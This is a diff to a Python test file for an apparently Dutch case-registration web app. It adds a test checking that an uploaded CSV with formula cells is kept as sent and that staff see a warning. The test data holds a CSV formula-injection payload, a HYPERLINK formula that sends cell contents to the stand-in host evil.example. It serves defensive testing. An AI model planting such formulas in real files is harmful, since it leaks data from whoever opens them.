@@ -29,10 +29,11 @@ from tasks.links import make_token
 from tasks.mail import deliver_pending
 from tasks.rendering import format_date
 from tests.conftest import TODAY, Mailbox, csrf_from, herreg_env, login, make_staff, wait_until
+from tests.factories import sample_pdf
 from tests.test_web_links import PastSigner
 
 OPERATOR = Actor(Role.OPERATOR, "Beheerder Test")
-PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+PDF = sample_pdf()
 CSV = b"datum;behandelcode;uren\n2025-03-02;1000;1,5\n2025-03-09;1000;2\n"
 PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"
 _kp = iter(range(700000, 799999))
@@ -222,6 +223,29 @@ def test_the_way_in_is_throttled_per_client_and_per_kp_number(offline: str) -> N
         assert throttled.status_code == 429 and shown(m.REQUEST_THROTTLED) in throttled.text
         assert [ask(one, str(77700000 + i), "a@example.org").status_code
                 for i in range(3)] == [200, 200, 429]  # the client's limit: 4 answered
+
+
+async def test_an_extract_with_formula_cells_is_kept_and_staff_are_warned(
+        offline_client: Any, mailbox: Mailbox) -> None:
+    kp, email = registered()
+    ask(offline_client, kp, email)
+    path = await confirmation_link(mailbox, kp)
+    formulas = b'datum;code\n2025-03-02;"=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")"\n'
+    done = send(offline_client, path, {**GOOD, "patient_records": (
+        "uittreksel.csv", formulas, "text/csv")})
+    assert done.status_code == 303
+    (case,) = cases_of(kp)
+    assert shown(m.FILE_HAS_FORMULAS) not in offline_client.get(done.headers["location"]).text
+    with staff_session("register_staff") as staff:
+        page = staff.get(f"/zaken/{case.number}")
+        assert page.text.count(shown(m.FILE_HAS_FORMULAS)) == 1, "only next to the extract"
+        with read_session() as session:
+            extract = session.exec(select(Document).where(
+                Document.case_id == case.id,
+                Document.kind == DocumentKind.PATIENT_RECORDS)).one()
+        assert extract.formula_cells
+        served = staff.get(f"/zaken/{case.number}/documenten/{extract.id}")
+        assert served.content == formulas, "kept as sent: it is the practitioner's evidence"
 
 
 async def test_wrong_missing_and_oversized_files_and_bad_links_create_nothing(
